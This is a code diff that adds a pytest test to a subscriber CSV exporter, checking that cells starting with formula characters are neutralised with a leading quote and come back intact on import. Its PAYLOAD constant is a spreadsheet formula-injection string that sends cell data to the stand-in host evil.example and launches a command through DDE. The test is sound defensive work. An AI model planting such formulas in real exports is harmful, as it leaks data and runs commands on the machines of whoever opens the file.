@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 
 import pytest
@@ -242,3 +244,39 @@ def test_one_bad_row_in_ten_thousand_costs_exactly_that_row() -> None:
     assert len(result.people) + len(result.skipped) + len(result.problems) == result.lines
     assert "Reader 4322" in {p.name for p in result.people}  # the row after it is its own
     assert all(p.name == f"Reader {p.email[6:-12]}" for p in result.people)
+
+
+# Formulas in exports (OWASP's CSV injection guidance) ------------------------------------------
+DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
+PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"Click")+cmd|\' /C calc\'!A0'
+
+
+@pytest.mark.parametrize("first", DANGEROUS_FIRST)
+def test_export_neutralises_formulas_and_import_gives_them_back(first: str) -> None:
+    lead = first if first in "=+-" else "="  # what an address may start with
+    people = [
+        Subscriber(id=1, email="a@example.org", name=first + PAYLOAD, source="signup"),
+        Subscriber(id=2, email=f"{lead}b@example.org", name=f"'{first}x"),
+        Subscriber(id=3, email="c@example.org", name="'plain' quotes"),
+    ]
+    text = export_csv(people)
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == 4  # one line per row
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell or cell[0] not in DANGEROUS_FIRST, row
+    # The export's own cells: one quote before what a spreadsheet would take for a formula.
+    if first.strip():
+        assert rows[1][1] == "'" + first + PAYLOAD
+    if first in "=+-":
+        assert rows[2][0] == f"'{first}b@example.org"
+    assert rows[3][1] == "'plain' quotes"
+
+    result = read_subscribers_csv(text, known_sections=SECTIONS)
+    assert result.problems == []
+    assert [(p.email, p.name) for p in result.people] == [
+        (p.email, new_subscriber(p.email, name=p.name, known_sections=SECTIONS).name)
+        for p in people
+    ]
+    if first.strip():  # the original values, exactly
+        assert [(p.email, p.name) for p in result.people] == [(p.email, p.name) for p in people]
